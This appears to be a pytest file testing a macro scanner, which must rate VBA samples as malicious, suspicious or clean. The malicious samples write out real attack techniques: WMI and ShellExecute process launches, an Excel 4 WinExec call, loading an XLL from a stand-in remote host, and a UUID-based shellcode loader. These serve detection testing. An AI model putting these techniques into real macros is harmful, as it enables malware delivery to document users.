"""Macros that start programs in ways that only attacks take, and macros of offices that look alike."""

from __future__ import annotations

import pytest

from app.engine.model import Verdict
from app.engine.scan import Engine

from .test_vba import lines, project

_DECLARED = 'Private Declare PtrSafe Function {} Lib "{}" (ByVal a As LongPtr, ByVal b As Long) As Long\r\n'
_BY_WORDS = (
    _DECLARED.format("HeapCreate", "kernel32")
    + _DECLARED.format("UuidFromStringA", "rpcrt4")
    + _DECLARED.format("EnumSystem" + "LocalesA", "kernel32")
)


@pytest.mark.parametrize(
    "source",
    [
        lines('Set w = GetObject("winmgmts:root\\cimv2:Win32_' + 'Process")', 'w.Create "cmd /c calc", Null, Null, p'),
        lines(
            'Set o = GetObject("new:9BA05972-F6A8-11CF-A442-00A0C90A8F39")',
            'o.Document.Application.ShellExecute "cmd.exe", "/c calc", "", "", 0',
        ),
        lines('ExecuteExcel4Macro "CALL(""Kernel32"",""WinExec"",""JCJ"",""cmd /c calc"",0)"', start="Workbook_Open"),
        lines('Application.RegisterXLL "https://pay.example.net/a.xll"', start="Workbook_Open"),
        _BY_WORDS
        + lines("p = HeapCreate(&H40000, 0)", 'UuidFromStringA "e48348fc", p', "EnumSystem" + "LocalesA p, 0"),
    ],
)
def test_a_macro_that_starts_something_in_a_way_of_attackers_is_malicious(engine: Engine, source: str) -> None:
    assert engine.scan(project(source), name="vbaProject.bin").verdict is Verdict.MALICIOUS


def test_a_macro_that_opens_a_table_from_an_open_address_is_suspicious(engine: Engine) -> None:
    source = lines('Workbooks.Open "http://pay.example.net/a.xlam"', start="Workbook_Open")

    assert engine.scan(project(source), name="vbaProject.bin").verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "source",
    [
        lines('Workbooks.Open "\\\\server\\reports\\march.xlsx"', start="Workbook_Open"),
        lines('Workbooks.Open "https://company.sharepoint.example/march.xlsx"', start="Workbook_Open"),
        lines("x = ExecuteExcel4Macro(cell)", start="Total"),
        lines('Set t = New Table: t.Create "March"', start="Workbook_Open"),
    ],
)
def test_a_macro_of_an_office_is_clean(engine: Engine, source: str) -> None:
    assert engine.scan(project(source), name="vbaProject.bin").verdict is Verdict.CLEAN
